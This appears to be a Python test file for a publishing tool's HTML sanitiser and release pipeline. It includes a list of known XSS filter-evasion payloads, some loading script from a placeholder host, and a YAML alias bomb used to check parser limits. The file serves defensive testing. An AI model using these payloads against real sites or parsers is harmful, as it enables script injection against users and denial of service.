"""Hostile input beyond the corpus: the sanitiser against known bypasses (nh3 with kzpublish's
allowlist), `check --fix` on every kind of line end, releases reproducible whatever the front
matter holds, killed releases' work folders, the YAML alias bomb's speed."""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

import pytest

from conftest import make_project, run_cli
from gitrepo import ScriptedRepo
from kzpublish.errors import SourceError
from kzpublish.release import WORK, remove_abandoned
from kzpublish.sanitize import clean_html
from kzpublish.sources import SourceFile, split_front_matter

# From ammonia's tests and OWASP's XSS filter evasion cheat sheet: none may leave anything that
# runs, fetches or styles.
BYPASSES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<iframe src=http://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<p style=\"color: red\" id=\"title\" class=\"ok\">text</p>",
]


@pytest.mark.parametrize("payload", BYPASSES)
def test_nh3_leaves_nothing_that_runs_fetches_or_styles(payload):
    out = clean_html(payload).html.lower()
    for bad in ("<script", "<img", "<iframe", "<svg", "<math", "<style", "<object", "<embed", "<link", "<meta",
                "<base", "<input", "<body", "<form", "javascript:", "onerror", "onload", "onmouseover", "ontoggle",
                "style=", "src=", "href=", "background=", " id="):
        assert bad not in out, (payload, out)


def test_nh3_keeps_the_formatting_a_statement_needs():
    assert clean_html('<b class="x">жирный</b> и <sup>2</sup>').html == '<b class="x">жирный</b> и <sup>2</sup>'
    assert clean_html('<span lang="kk" onclick="x">').html == '<span lang="kk">'  # a lone tag, as pandoc gives it
    assert clean_html("</span>").html == "</span>"
    assert clean_html("</script>").html == ""
    assert clean_html('<img src="a.png">').removed == ("<img>",)


@pytest.mark.parametrize("ends", ["\r", "\r\n", "\n", "mixed"])
def test_check_fix_keeps_every_kind_of_line_end(ends, tmp_path):
    lines = ["---", "title: Тест", "---", "", "Бiз келдік.", "", "Пaриж, жоқ."]
    seps = ["\r", "\r\n", "\n", "\r", "\n", "\r\n"] if ends == "mixed" else [ends] * 6
    text = "".join(line + sep for line, sep in zip(lines, seps + [""])) + ("\r\n" if ends == "mixed" else ends)
    root = make_project(tmp_path, {"sources/d/kk.md": text.encode()})
    run = run_cli("-C", str(root), "check", "--fix")
    assert run.code == 0, run.err
    assert run.out.splitlines() == ["fixed sources/d/kk.md:5:1: 'Бiз' → 'Біз'", "fixed sources/d/kk.md:7:1: 'Пaриж' → 'Париж'"]
    assert (root / "sources/d/kk.md").read_bytes() == text.replace("Бiз", "Біз").replace("Пaриж", "Париж").encode()


def test_an_alias_bomb_fails_at_once_at_its_line():
    lines = ["---", "title: Т", "a: &a [" + ",".join(['"lol"'] * 9) + "]"]
    for prev, name in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    text = "\n".join(lines + ["---", "", "Текст."])
    assert len(text.encode()) < 700
    start = time.process_time()
    with pytest.raises(SourceError) as e:
        split_front_matter(SourceFile("sources/d/ru.md", "ru", text))
    assert time.process_time() - start < 0.5
    assert str(e.value).startswith("sources/d/ru.md:7:8: the front matter stands for more than 10 000 values")


FULL = """---
title: Полный *документ*
subtitle: Подзаголовок
short-title: Полный
date: 2019-05-21
authors: [Имя Фамилия]
tags: [выборы]
paper: A5
layout: sequential
typography-off: [short-words]
custom: своё
---

Текст полного документа.
"""
BARE = "---\ntitle: Голый\n---\n\nТекст без даты и всего прочего.\n"


def test_releases_are_reproducible_with_and_without_every_optional_field(tmp_path, monkeypatch):
    """Two releases of one commit, seconds apart: the same bytes, for a document with every
    optional field and one with none (no `date:`: WeasyPrint must not date the PDF/X itself)."""
    r = ScriptedRepo(tmp_path / "project")
    r.commit("Документы", {"sources/full/ru.md": FULL, "sources/bare/kk.md": BARE.replace("Голый", "Жалаң"),
                           "sources/bare/ru.md": BARE}, tag="v1")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1600000000")
    sums = []
    for _ in range(2):
        run = run_cli("-C", str(r.root), "-q", "release")
        assert run.code == 0, run.err
        sums.append((r.root / "dist/v1/SHA256SUMS").read_text())
        time.sleep(1.1)  # a clock that leaked in would show
    assert sums[0] == sums[1]
    assert "bare-v1-print.pdf" in sums[0] and "full-v1-print.pdf" in sums[0]


def test_a_killed_releases_work_folder_is_removed(tmp_path):
    dead = subprocess.Popen(["true"])
    dead.wait()
    abandoned = tmp_path / f"{WORK}{dead.pid}.v1.abc"
    running = tmp_path / f"{WORK}{os.getpid()}.v1.def"
    for folder in (abandoned, running):
        (folder / "sub").mkdir(parents=True)
    remove_abandoned(tmp_path)
    assert not abandoned.exists() and running.exists()


def _pandocs_under(pid: int) -> list[int]:
    """The pandoc processes descended from `pid`."""
    parents = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat = Path(f"/proc/{entry}/stat").read_text()
                parents[int(entry)] = (int(stat.rsplit(")", 1)[1].split()[1]), stat.split("(", 1)[1].rsplit(")", 1)[0])
            except (OSError, IndexError, ValueError):
                continue

    def descends(p: int) -> bool:
        while p in parents and p > 1:
            p = parents[p][0]
            if p == pid:
                return True
        return False

    return [p for p, (_, name) in parents.items() if name == "pandoc" and descends(p)]


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def test_kill_9_of_a_build_ends_its_pandoc_runs(tmp_path):
    import signal
    import sys

    text = "---\ntitle: Т\n---\n\n" + "".join(f"Абзац номер {i} с *выделением* и [ссылкой](https://example.org/{i}).\n\n"
                                              for i in range(40_000))
    root = make_project(tmp_path, {"sources/big/ru.md": text})
    build = subprocess.Popen([sys.executable, "-m", "kzpublish", "-C", str(root), "-q", "build", "-j", "1"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    pandocs: list[int] = []
    while not pandocs and time.monotonic() < deadline and build.poll() is None:
        time.sleep(0.05)
        pandocs = _pandocs_under(build.pid)
    assert pandocs, "no pandoc run was seen"
    build.send_signal(signal.SIGKILL)
    build.wait()
    time.sleep(0.3)  # the kernel ends them at once; left alone, pandoc would parse on for seconds
    assert not any(map(_alive, pandocs))
